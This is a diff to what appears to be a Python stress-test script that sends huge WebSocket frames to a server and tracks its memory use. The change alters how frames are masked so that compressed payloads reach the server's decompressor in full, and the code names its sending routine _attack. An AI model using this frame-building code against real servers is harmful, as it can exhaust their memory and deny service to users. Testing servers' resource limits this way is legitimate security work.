@@ -30,6 +30,7 @@ from urllib.parse import urlsplit
 import httpx
 
 MESSAGE_BYTES = 16 * 1024 * 1024
+MASKED_WHOLE = 256 * 1024  # payloads up to this size are masked whole (the rest: the head)
 
 
 def rss_mib(pid: int) -> float:
@@ -45,8 +46,10 @@ def _frame(payload: bytes, *, compressed: bool) -> bytes:
     first = 0x80 | (0x40 if compressed else 0) | 0x1
     mask = os.urandom(4)
     header = bytes([first, 0x80 | 127]) + struct.pack("!Q", len(payload)) + mask
-    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload[:64]))
-    return header + masked + payload[64:]  # the rest unmasked: the server reads no further
+    whole = len(payload) <= MASKED_WHOLE  # a compressed message: what the server inflates
+    shown = payload if whole else payload[:64]  # a plain one: refused from its header
+    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(shown))
+    return header + masked + (b"" if whole else payload[64:])
 
 
 def _attack(host: str, port: int, path: str, until: float, counts: dict[str, int]) -> None:
